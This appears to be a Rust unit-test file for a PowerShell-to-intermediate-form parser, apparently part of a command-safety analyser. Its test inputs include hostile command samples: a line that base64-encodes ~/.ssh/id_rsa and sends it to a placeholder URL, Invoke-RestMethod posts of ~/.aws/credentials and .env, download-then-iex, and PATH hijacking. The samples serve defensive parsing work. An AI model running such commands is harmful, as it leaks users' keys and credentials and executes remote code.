//! Statements: assignments, branches, loops, definitions.

use super::check;

#[test]
fn assignments() {
    check(&[
        (r#"$env:PATH = "C:\evil;" + $env:PATH"#, r#"(set PATH (word "C:\\evil;" $env:PATH))"#),
        ("$a, $b = 1, 2", r#"(set a "1") (set b "2")"#),
        (
            r"$p = @{Path='C:\x'; Recurse=$true; Force=$true}; Remove-Item @p",
            r#"(set p "-Path" "C:\\x" "-Recurse" "-Force") (cmd "remove-item" $p[@])"#,
        ),
        ("$b = @{token=$x; n=(whoami)}", r#"(set b (list $x (out (cmd "whoami"))))"#),
        (
            "$x = if ($y) { 'a' } else { b }",
            r#"(set x (out (if () (arm (cmd "write-output" "a")) (arm (cmd "b")))))"#,
        ),
        ("$x = $y = foo", r#"(set x (out (set y (out (cmd "foo"))) (cmd "write-output" $y)))"#),
        ("($x = 'iex') ; & $x", r#"(set x "iex") (cmd "write-output" $x) (cmd $x)"#),
        ("$a += 'b'; $b -= 1; $c ??= 'd'", r#"(set+ a "b") (set b (num)) (set c ${c:-"d"})"#),
        ("[array]$x = foo", r#"(set x (out (cmd "foo")))"#),
        ("[int]$n = 5; [ValidateSet('a','b')]$y = 'a'", r#"(set n "5") (set y "a")"#),
        ("$null = rm x", r#"(cmd "remove-item" "x")"#),
        ("[void](rm x)", r#"(cmd "remove-item" "x")"#),
        ("Set-Variable x 'rm'; & $x y", r#"(set x "rm") (cmd $x "y")"#),
        ("(gv x).Value", r#"(cmd "write-output" $x)"#),
        ("$i++", ""),
        ("$r = irm u; iex $r", r#"(set r (out (cmd "invoke-restmethod" "u"))) (cmd "invoke-expression" $r)"#),
    ]);
}

#[test]
fn lines_with_their_prompt() {
    check(&[
        (
            "PS C:\\Users\\me> Remove-Item x",
            r#"(cmd "get-process" "C:\\Users\\me" "x" (> "Remove-Item")) (cmd "remove-item" "x")"#,
        ),
        ("PS > whoami", r#"(cmd "get-process" (> "whoami")) (cmd "whoami")"#),
        ("ps > list.txt", r#"(cmd "get-process" (> "list.txt"))"#),
    ]);
}

#[test]
fn branches() {
    check(&[
        (
            "if (Test-Path $p) { rm $p } elseif ($x) { b } else { c }",
            r#"(if ((cmd "test-path" $p)) (arm (cmd "remove-item" $p)) (arm (cmd "b")) (arm (cmd "c")))"#,
        ),
        ("if (-not (Test-Path x)) { mkdir x }", r#"(if ((cmd "test-path" "x")) (arm (cmd "mkdir" "x")))"#),
        (
            "switch -Regex ($x) { 'a' { foo } default { bar } }",
            r#"(if () (arm (cmd "foo")) (arm (cmd "bar")))"#,
        ),
        (
            "switch ($x) { {$_ -gt 1} { a; break } 'b' { b } default { c } }",
            r#"(if () (arm (cmd "a")) (arm (cmd "b")) (arm (cmd "c")))"#,
        ),
        ("switch -File x.txt { a { b } }", r#"(if ((cmd "get-content" "x.txt")) (arm (cmd "b")))"#),
        (
            "try { a } catch [IO.IOException] { b } finally { c }",
            r#"(group (cmd "a") (if () (arm (cmd "b"))) (group (cmd "c")))"#,
        ),
        (r#"try { a } catch { throw "x $(b)" }"#, r#"(group (cmd "a") (if () (arm (cmd "b"))))"#),
        ("trap { rm x }", r#"(if () (arm (cmd "remove-item" "x")))"#),
        ("!(Test-Path x)", r#"(cmd "test-path" "x")"#),
        ("if (a) { b }\n# c\nelse { d }", r#"(if ((cmd "a")) (arm (cmd "b")) (arm (cmd "d")))"#),
        ("if ($x = foo) { $x }", r#"(if ((set x (out (cmd "foo")))) (arm (cmd "write-output" $x)))"#),
    ]);
}

#[test]
fn loops() {
    check(&[
        ("foreach ($f in 'a','b') { del $f }", r#"(loop f ("a" "b") () (cmd "remove-item" $f))"#),
        (
            "foreach ($x in gci *.txt) { rm $x }",
            r#"(loop x ((out (cmd "get-childitem" (glob "*.txt")))) () (cmd "remove-item" $x))"#,
        ),
        ("foreach($i in 1..3){foo $i}", r#"(loop i ("1" "2" "3") () (cmd "foo" $i))"#),
        ("for ($i=0; $i -lt 3; $i++) { foo $i }", r#"(loop () ((set i "0")) (cmd "foo" $i))"#),
        ("for (;;) { a }", r#"(endless () () (cmd "a"))"#),
        ("while ($true) { Start-Sleep 1; evil }", r#"(endless () () (cmd "start-sleep" "1") (cmd "evil"))"#),
        ("while (1) { a }", r#"(endless () () (cmd "a"))"#),
        ("do { a } until (b)", r#"(loop () ((cmd "b")) (cmd "a"))"#),
        (":outer foreach ($x in $y) { break outer }", "(loop x ($y) ())"),
        ("do { a } while ($true)", r#"(endless () () (cmd "a"))"#),
        (
            "foreach ($x in 'a', 'b') { foreach ($y in $x) { rm $y } }",
            r#"(loop x ("a" "b") () (loop y ($x) () (cmd "remove-item" $y)))"#,
        ),
    ]);
}

#[test]
fn definitions() {
    check(&[
        (
            "function Remove-All([string]$Path, $n = (Get-Date)) { rm $Path }",
            r#"(fn remove-all (path n) (set n ${n:-(out (cmd "get-date"))}) (cmd "remove-item" $path))"#,
        ),
        (
            "function f { param([Parameter(Mandatory=$true)][string]$p) rm $p }",
            r#"(fn f (p) (cmd "remove-item" $p))"#,
        ),
        ("param($x = 5) foo $x", r#"(set x ${x:-"5"}) (cmd "foo" $x)"#),
        ("filter foo { rm $_ }", r#"(fn foo () (cmd "remove-item" $_))"#),
        ("function global:prompt { rm x }", r#"(fn prompt () (cmd "remove-item" "x"))"#),
        (
            "class A { [string]$n = (foo); [void] Go([int]$x) { rm $x } static Make() { b } }",
            r#"(cmd "foo") (fn ps:.go (x) (cmd "remove-item" $x)) (fn ps:[a]::make () (cmd "b"))"#,
        ),
        (
            "class A : B { A([int]$x) : base($x) { rm x } hidden [int] F() { return 1 } }",
            r#"(fn ps:[a]::new (x) (cmd "remove-item" "x")) (fn ps:.f () (return "1"))"#,
        ),
        ("enum E { A; B = 2 }", ""),
        (r"using module .\x.psm1", r#"(cmd "import-module" ".\\x.psm1")"#),
        ("begin { a } process { b } end { c }", r#"(group (cmd "a")) (group (cmd "b")) (group (cmd "c"))"#),
        ("data { 'x' }", r#"(group (cmd "write-output" "x"))"#),
        ("& { param($a) rm $a } 'file'", r#"(group (set a "file") (cmd "remove-item" $a))"#),
        ("$sb = { rm x }; & $sb", r#"(set sb (block (cmd "remove-item" "x"))) (cmd $sb)"#),
        ("function f($a, [int]$b = 2) { $a }", r#"(fn f (a b) (set b ${b:-"2"}) (cmd "write-output" $a))"#),
        ("using namespace System.IO\n[File]::Delete('x')", r#"(cmd "ps:[system.io.file]::delete" "x")"#),
    ]);
}

#[test]
fn ends() {
    check(&[
        ("return (foo)", r#"(return (out (cmd "foo")))"#),
        ("throw (rm x)", r#"(cmd "remove-item" "x")"#),
        ("exit 1", r#"(cmd "exit" "1")"#),
    ]);
}

#[test]
fn jobs() {
    check(&[
        ("Start-Job { rm x }", r#"(bg (cmd "start-job" (block (cmd "remove-item" "x"))))"#),
        (
            "Invoke-Command -ComputerName h -ScriptBlock { rm x }",
            r#"(cmd "invoke-command" "-ComputerName" "h" "-ScriptBlock" (block (cmd "remove-item" "x")))"#,
        ),
        (
            "Start-Process cmd -ArgumentList '/c','del x' -Verb RunAs",
            r#"(cmd "start-process" "cmd" "-ArgumentList" (list "/c" "del x") "-Verb" "RunAs")"#,
        ),
        ("powershell -EncodedCommand ZQBj", r#"(cmd "powershell" "-EncodedCommand" "ZQBj")"#),
        ("powershell -Command { rm x }", r#"(cmd "powershell" "-Command" (block (cmd "remove-item" "x")))"#),
    ]);
}

#[test]
fn from_real_scripts() {
    check(&[
        (
            "[cmdletbinding()]\nparam(\n [string]$A=\"x\",\n [ValidateSet(\"a\", IgnoreCase = $false)]\n [string]$B,\n [switch]$C\n)\n\nfoo $A",
            r#"(set a ${a:-"x"}) (cmd "foo" $a)"#,
        ),
        ("[A()][B(1)]class X { F() { rm x } }", r#"(fn ps:.f () (cmd "remove-item" "x"))"#),
        ("[ValidateScript({ MARK })]$x = 1", r#"(cmd "mark") (set x "1")"#),
        ("[ValidateScript({ MARK })][int]$x = 1; $x", r#"(cmd "mark") (set x "1") (cmd "write-output" $x)"#),
        (
            "$a = [X]::Parse($b, [ref] $null).\n   EndBlock.Text",
            r#"(set a (out (cmd "ps:.text" "--self" (out (cmd "ps:.endblock" "--self" (out (cmd "ps:[x]::parse" $b "")))))))"#,
        ),
        (
            "return ([Security.Principal.WindowsPrincipal]`\n [Security.Principal.WindowsIdentity]::GetCurrent()`\n ).IsInRole([X]::Administrator)",
            r#"(return (out (cmd "ps:.isinrole" "--self" (out (cmd "ps:[system.security.principal.windowsidentity]::getcurrent")) (out (cmd "ps:[x]::administrator")))))"#,
        ),
        ("Invoke-With-Retry(\n{\n foo\n})", r#"(cmd "invoke-with-retry" (block (cmd "foo")))"#),
        (
            "$p = New-Object System.Net.WebProxy -Property @{\n Address=$a;\n Use=$b;\n}",
            r#"(set p (out (cmd "new-object" "System.Net.WebProxy" "-Property" (list $a $b))))"#,
        ),
        (
            "$d = -split $x; $v = @{\n A = $(if ($d.Count -gt 1) { $d[0] })\n B = $d[-1] # c\n}",
            r#"(set d (word ? $x)) (set v (list (out (if () (arm (cmd "write-output" $d[0])))) $d[-1]))"#,
        ),
        ("return & $sb", "(return (out (cmd $sb)))"),
        (
            r#"Get-Content($f) -Raw | ConvertFrom-Json | Select-Object -expand "sdk" -ErrorAction SilentlyContinue"#,
            r#"(pipe (cmd "get-content" $f "-Raw") (cmd "convertfrom-json") (cmd "select-object" "-expand" "sdk" "-ErrorAction" "SilentlyContinue"))"#,
        ),
        (r#"If (-Not (Test-Path $f)) { throw "x '$f'" }"#, r#"(if ((cmd "test-path" $f)) (arm))"#),
        (r#"$e.Data["S"] = [int] $r.StatusCode"#, "(set e.data[S] $r[.statuscode])"),
        (
            r#"$u = $a, $env:SCOOP, "$env:U\scoop" | Select-Object -first 1"#,
            r#"(set u (out (pipe (cmd "write-output" (list $a $env:SCOOP (word $env:U "\\scoop"))) (cmd "select-object" "-first" "1"))))"#,
        ),
        (
            "$a = [X]::Parse($b, [ref] $null).\n   EndBlock.Text",
            r#"(set a (out (cmd "ps:.text" "--self" (out (cmd "ps:.endblock" "--self" (out (cmd "ps:[x]::parse" $b "")))))))"#,
        ),
        (
            r#"$t = ($a.Keys | foreach { "-$_ `"$($a[$_])`"" }) -join " ""#,
            r#"(set t (word ? (out (pipe (cmd "write-output" $a[.keys]) (cmd "foreach-object" (block (cmd "write-output" (word "-" $_ " \"" ? $a $_ "\""))))))))"#,
        ),
        (
            r#"foo -bar:$x -baz:"a b" | Where-Object { $_.Name -like '*.x' -and !$_.PSIsContainer }"#,
            r#"(pipe (cmd "foo" (word "-bar" ":" $x) "-baz:a b") (cmd "where-object" (block)))"#,
        ),
        (
            "1..10 | ForEach-Object -Parallel { rm $using:x } -ThrottleLimit 5",
            r#"(pipe (cmd "write-output" (list "1" "2" "3" "4" "5" "6" "7" "8" "9" "10")) (cmd "foreach-object" "-Parallel" (block (cmd "remove-item" $x)) "-ThrottleLimit" "5"))"#,
        ),
        ("$x = @(\n 'a'\n 'b'\n)", r#"(set x "a" "b")"#),
        ("$x = @(\n 'a',\n \"b\" # c\n)", r#"(set x "a" "b")"#),
        (
            r#"& git @('a','b') 2>&1 | % { "$_" }"#,
            r#"(pipe (cmd "git" (list "a" "b") (2>& "1")) (cmd "foreach-object" (block (cmd "write-output" $_))))"#,
        ),
        (
            "[PSCustomObject]@{ A = 1; B = foo } | Export-Csv x",
            r#"(pipe (cmd "write-output" (list "1" (out (cmd "foo")))) (cmd "export-csv" "x"))"#,
        ),
        (
            "$x | Select-Object @{N='a';E={ $_.b }}",
            r#"(pipe (cmd "write-output" $x) (cmd "select-object" (list "a" (block (cmd "write-output" $_[.b])))))"#,
        ),
        (
            "function A { [CmdletBinding(SupportsShouldProcess=$true)] param([Parameter(Position=0)] $x) process { if ($PSCmdlet.ShouldProcess($x)) { rm $x } } }",
            r#"(fn a (x) (group (if ((cmd "ps:.shouldprocess" "--self" $pscmdlet $x)) (arm (cmd "remove-item" $x)))))"#,
        ),
        (
            "while (($line = $r.ReadLine()) -ne $null) { $line }",
            r#"(loop () ((set line (out (cmd "ps:.readline" "--self" $r))) (cmd "write-output" $line)) (cmd "write-output" $line))"#,
        ),
        (
            r#"$a = "x"; $a.Substring(1) + 'b' | iex"#,
            r#"(set a "x") (pipe (cmd "write-output" (word (out (cmd "ps:.substring" "--self" $a "1")) "b")) (cmd "invoke-expression"))"#,
        ),
        (
            r#"$b64 = [Convert]::ToBase64String([IO.File]::ReadAllBytes("$HOME\.ssh\id_rsa")); iwr "https://x/?d=$b64""#,
            r#"(set b64 (out (cmd "ps:[system.convert]::tobase64string" (out (cmd "ps:[system.io.file]::readallbytes" (word $HOME "\\.ssh\\id_rsa")))))) (cmd "invoke-webrequest" (word "https://x/?d=" $b64))"#,
        ),
        (
            "Invoke-RestMethod -Uri https://x -Method Post -Body (Get-Content ~/.aws/credentials -Raw)",
            r#"(cmd "invoke-restmethod" "-Uri" "https://x" "-Method" "Post" "-Body" (out (cmd "get-content" (word (tilde "") "/.aws/credentials") "-Raw")))"#,
        ),
        (
            "Invoke-RestMethod https://x -Body @{ k = (gc .env) }",
            r#"(cmd "invoke-restmethod" "https://x" "-Body" (list (out (cmd "get-content" ".env"))))"#,
        ),
        ("Remove-Item -Path:$x -Recurse:$r -p:$y", r#"(cmd "remove-item" "-Path" $x "-Recurse" "-p" $y)"#),
    ]);
}
